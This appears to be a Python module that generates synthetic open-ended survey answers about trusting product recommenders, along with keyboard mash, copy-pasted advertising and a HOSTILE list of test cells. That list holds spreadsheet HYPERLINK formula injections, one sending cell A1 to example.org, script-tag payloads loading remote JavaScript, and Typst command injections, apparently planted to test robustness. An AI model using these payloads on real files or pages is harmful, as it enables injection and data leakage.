"""Open answers: codable reasons, keyboard mash, pasted advertising, and hostile cells."""

from __future__ import annotations

from typing import Final

import numpy as np

from survey_analysis.datasets.founding.draws import Bools, Draws, Ints, Texts

REASONS: Final = (
    "expertise",
    "experience",
    "honesty",
    "independence",
    "similarity",
    "explanation",
    "sells",
    "unknown",
    "shallow",
)
FAVOURABLE: Final = 6  # the first six reasons speak for following, the other three against
# Share of the reasons given, by source: six for, then three against.
FOR_SHARES: Final = (
    (0.30, 0.20, 0.14, 0.10, 0.08, 0.18),
    (0.08, 0.26, 0.24, 0.18, 0.20, 0.04),
    (0.14, 0.22, 0.16, 0.04, 0.14, 0.30),
    (0.24, 0.30, 0.16, 0.12, 0.10, 0.08),
)
AGAINST_SHARES: Final = ((0.34, 0.40, 0.26), (0.14, 0.26, 0.60), (0.66, 0.14, 0.20), (0.52, 0.20, 0.28))
_PHRASES: Final = (
    ("they know the category", "they know what they talk about", "it is their field", "they have studied it"),
    ("they use it themselves", "they have tried many of them", "they own one", "they have lived with it"),
    (
        "they say what is bad too",
        "they have been straight with me",
        "they tell the truth",
        "no sugar coating",
    ),
    (
        "nobody pays them",
        "they gain nothing from it",
        "there is no commission in it",
        "they have no reason to push",
    ),
    (
        "they live like me",
        "we need the same things",
        "they have a budget like mine",
        "their taste is close to mine",
    ),
    (
        "they showed me how it works",
        "they explained it step by step",
        "the demo was clear",
        "they answer questions",
    ),
    ("it is an advert", "they are paid to say it", "it is always a sales pitch", "they only want me to buy"),
    ("I do not know them", "they do not know what I need", "we never met", "they cannot know my home"),
    (
        "they did not look into it",
        "they repeat what they heard",
        "they had it for a day",
        "no details were given",
    ),
)
_OPENERS: Final = (
    "I think",
    "Mostly because",
    "For me",
    "In my experience",
    "Last time",
    "To be fair",
    "In general",
    "Simply because",
    "I would say",
    "It depends, but",
    "Well,",
    "As far as I can tell",
)
_PRODUCTS: Final = (
    "a tent",
    "running shoes",
    "a face cream",
    "headphones",
    "boots",
    "dog food",
    "a car seat",
    "a suitcase",
    "coffee",
    "detergent",
    "granola",
    "a novel",
    "a laptop",
    "a backpack",
    "sun lotion",
    "tea",
)
_TAILS: Final = (
    "and it turned out well",
    "so I paid attention",
    "and I looked it up afterwards",
    "but I compared prices first",
    "and my sister said the same",
    "so I waited a week",
    "and I went to the shop",
    "but I am careful",
    "so I made up my own mind",
    "and I still have it",
    "but it was not cheap",
    "and that was enough",
)
_SHORT: Final = ("trust", "good info", "not sure", "they are nice", "experience", "price", "no idea")
_MASH: Final = "sdfghjklqwrtzxcvbnm"
PASTED: Final = (
    "This is a very good product and the quality is very nice, I recommend it to everyone I know.",
    "Good and nice survey, I like it very much because it is very interesting and useful for the people.",
    "Influencer marketing is a form of social media marketing involving endorsements and product placement.",
    "The best brand in the world with the best price and the best service for all of my family members.",
    "Great experience overall, excellent service, highly satisfied with the outcome, will use it again.",
    "It helps people to make better decisions about the products and services they want in daily life.",
)
# 30 cells: 3 + 3 + 3 + 3 + 2 + 3 + 3 with hostile content, 10 with a (made-up) name.
HOSTILE: Final = (
    '=HYPERLINK("http://example.org/?q="&A1,"prize")',
    '=HYPERLINK("http://example.org";"click") they know a lot',
    '+1 for them =HYPERLINK("http://example.org")',
    "<script>alert(1)</script> they explained it well",
    "good tips <script src=//example.org/x.js></script>",
    "</td></tr><script>document.title='x'</script>",
    '#panic("stop") they use it themselves',
    "#panic() honest people",
    "$x$ #panic() #set text(size: 99pt)",
    "Love the tips 😀👍",
    "👩‍👩‍👧‍👦 my family asks them first",
    "🔥🔥🔥 always right",
    "אני סומך עליהם, הם מבינים במוצר",
    "ההמלצה הייתה טובה (really good)",
    'She said:\n"this one is better"\nand she was right',
    'Two reasons:\n1) "hands-on" use\n2) no pay',
    'He wrote "buy it, or try it"\r\nso I tried it',
    "call me at 202-555-0143 for details",
    "my number is (312) 555-0178, happy to talk",
    "text 415.555.0126 any time",
    "My colleague Dana Whitcombe runs every day and knows shoes",
    "Because Marisol Everhart told me so",
    "my neighbour Tobias Lindqvister works in a camera shop",
    "I follow Priya Ramanathanes, she tests skin care",
    "Jonas Abernethy-Cole gave me good advice twice",
    "ask Lucille Featherstonh, she has three dogs",
    "Trent Okonkwo-Bell showed me how to pitch the tent",
    "Ms. Agnes Holloway-Reed taught the class",
    "my cousin Rafael Montclairo sells phones",
    "Beatrix Vandermolen writes about books",
)


IN_OTHER: Final = (0, 12)  # planted in Q32_7_TEXT, the others in the answers to why


def open_answers(draws: Draws, source: int, favourable: Bools) -> tuple[Texts, Ints]:
    """One answer and its reason (0 to 8) a row, in people's own words; six in a hundred are very short.

    Parameters
    ----------
    source
        Position of the source rated, 0 to 3.
    favourable
        Whether the respondent would follow it: decides between reasons for and against.
    """
    n = len(favourable)
    speak_for = draws.category(FOR_SHARES[source], n)
    against = FAVOURABLE + draws.category(AGAINST_SHARES[source], n)
    reason = np.where(favourable, speak_for, against)
    phrase = draws.whole(0, 3, n)
    opener, product, tail = (draws.whole(0, len(words) - 1, n) for words in (_OPENERS, _PRODUCTS, _TAILS))
    short, which = draws.happens(0.06, n), draws.whole(0, len(_SHORT) - 1, n)
    answers = [
        _SHORT[w] if brief else f"{_OPENERS[o]} {_PHRASES[r][f]}, it was {_PRODUCTS[m]} {_TAILS[t]}"
        for brief, w, o, r, f, m, t in zip(short, which, opener, reason, phrase, product, tail, strict=True)
    ]
    return as_texts(answers), np.where(short, -1, reason).astype(np.int64)


def gibberish(draws: Draws, n: int) -> Texts:
    """Keyboard mash without a vowel: two or three runs of four to nine letters."""
    letters = draws.whole(0, len(_MASH) - 1, n, 27)
    lengths, words = draws.whole(4, 9, n, 3), draws.whole(2, 3, n)
    runs = [
        " ".join("".join(_MASH[k] for k in row[9 * w : 9 * w + size[w]]) for w in range(count))
        for row, size, count in zip(letters, lengths, words, strict=True)
    ]
    return as_texts(runs)


def pasted(draws: Draws, n: int) -> Texts:
    """One of six texts that many unrelated people hand in word for word."""
    return as_texts([PASTED[k] for k in draws.whole(0, len(PASTED) - 1, n)])


def as_texts(values: list[str]) -> Texts:
    """Object array of strings (numpy would cut them to a fixed width)."""
    out = np.empty(len(values), dtype=object)
    out[:] = values
    return out
